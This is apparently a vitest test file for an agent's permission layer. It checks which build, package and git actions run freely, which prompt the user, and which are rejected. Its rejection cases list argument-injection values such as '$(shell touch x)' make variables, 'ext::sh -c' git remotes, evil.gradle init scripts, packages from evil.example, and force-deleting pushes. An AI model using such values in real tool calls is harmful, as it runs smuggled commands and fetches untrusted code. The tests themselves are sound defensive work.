import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { namedAction, runFile, runTask, type Act } from './acts.ts';
import { person, says } from './person.ts';
import type { Session } from './session.ts';
import { leavesAMark, makeWorld } from './world.ts';

// What a call can do depends on what it is given: a target that publishes is asked about wherever it stands,
// and a value that would start another program is none.

const named = (name: string, given: Record<string, unknown>): [string, Act] => [
  `${name} ${JSON.stringify(given)}`,
  namedAction(name, given),
];

describe('an action in a trusted folder', () => {
  const world = makeWorld(leavesAMark);
  const ada = person();
  let session: Session;
  beforeAll(async () => {
    // `wx`: some of that folder are links to the machine's programs, which must not be written to.
    for (const name of 'mvn gradle make cmake rake go cargo dotnet python3 just task'.split(' '))
      writeFileSync(join(world.bin, name), '#!/bin/sh\n', { mode: 0o755, flag: 'wx' });
    for (const name of ['pom.xml', 'build.gradle', 'Rakefile', 'justfile', 'go.mod']) world.write(name, '\n');
    world.write('package.json', '{"scripts":{"hi":"true","deploy":"true","release:npm":"true"}}');
    ada.will(says.yes);
    session = await world.open({ person: ada });
    await session.gets(runFile('run.mjs'));
  });
  beforeEach(() => ada.will(says.no));
  afterAll(() => world.end());

  it.each([
    named('maven_run_goal', { task: 'dependency:analyze', args: ['-DskipTests', '-q'] }),
    named('gradle_run_task', { task: ':app:integrationTest', args: ['--info'] }),
    named('gradle_run_tasks', { tasks: ['clean', 'check'] }),
    named('npm_run', { task: 'hi' }),
    named('make_task', { task: 'hi', args: ['V=1', 'CFLAGS=-O2 -g'] }),
    named('rake_task', { task: 'spec', args: ['SPEC=a'] }),
    named('just_task', { task: 'build', args: ['debug'] }),
    named('go_run', { package: './cmd/shop' }),
  ])('runs without a question: %s', async (_, act) => {
    await session.gets(act);
    expect(ada.asked).toEqual([]);
  });

  it.each([
    named('maven_run_goal', { task: 'deploy' }),
    named('maven_run_goal', { task: 'verify', args: ['deploy'] }),
    named('maven_run_goal', { task: 'release:perform' }),
    named('maven_run_goal', { task: 'exec:exec' }),
    named('gradle_run_task', { task: 'publish' }),
    named('gradle_run_task', { task: 'build', args: ['publishToMavenCentral'] }),
    named('gradle_run_tasks', { tasks: ['build', ':lib:uploadArchives'] }),
    named('npm_run', { task: 'deploy' }),
    named('npm_run', { task: 'release:npm' }),
    named('make_task', { task: 'publish' }),
    named('make_task', { task: 'all', args: ['install'] }),
    named('make_build', { targets: ['install'] }),
    named('cmake_build', { build: 'src', targets: ['install/strip'] }),
    named('cmake_install', { build: 'src' }),
    named('rake_task', { task: 'spec', args: ['release'] }),
    named('just_task', { task: 'deploy' }),
    named('task_task', { task: 'release' }),
    named('python_run_module', { module: 'http.server' }),
    ['a task of the project', runTask('deploy')] as [string, Act],
  ])('is asked about: %s', async (_, act) => {
    expect((await session.does(act)).refused).toBe(true);
    expect(ada.asked).toHaveLength(1);
  });

  it.each([
    named('maven_run_goal', { task: 'verify', args: ['-f', '../other/pom.xml'] }),
    named('maven_run_goal', { task: 'verify', args: ['-Dexec.executable=rm'] }),
    named('gradle_run_task', { task: 'build', args: ['-I', 'evil.gradle'] }),
    named('gradle_run_task', { task: 'build', args: ['--init-script=evil.gradle'] }),
    named('make_task', { task: 'SHELL=./x' }),
    named('make_task', { task: 'all', args: ['SHELL=./x'] }),
    named('make_task', { task: 'all', args: ['CC=$(shell touch x)'] }),
    named('make_task', { task: 'all', args: ['CFLAGS=; touch x'] }),
    named('make_task', { task: 'all', args: ['--eval=$(shell touch x)'] }),
    named('make_build', { variables: ['MAKEFLAGS=-E$(shell touch x)'] }),
    named('rake_task', { task: 'spec', args: ['-e', 'system("x")'] }),
    named('go_run', { package: 'evil.com/x@latest' }),
    named('npm_add', { packages: ['evil/repo'] }),
    named('npm_add', { packages: ['x@npm:evil'] }),
    named('npm_add', { packages: ['./pkg'] }),
    named('npm_add', { packages: ['https://evil.example/x.tgz'] }),
    named('cargo_add', { packages: ['./x'] }),
    named('cargo_add', { packages: ['https://evil.example/x'] }),
    named('dotnet_add', { packages: ['../x'] }),
    named('git_fetch', { remote: 'ext::sh -c x' }),
    named('git_fetch', { remote: 'origin', branch: '+main:keep' }),
    named('git_pull', { remote: 'origin', branch: '+main:main' }),
    named('git_push', { remote: 'ext::sh -c x', branch: 'main' }),
    named('git_push', { remote: 'origin', branch: ':main' }),
  ])('does not take the value: %s', async (_, act) => {
    const { refused, text } = await session.does(act);
    expect(refused).toBe(true);
    expect(text).toMatch(/^(?:ARG_INVALID|ARG_FLAG)/);
    expect(ada.asked).toEqual([]);
  });
});
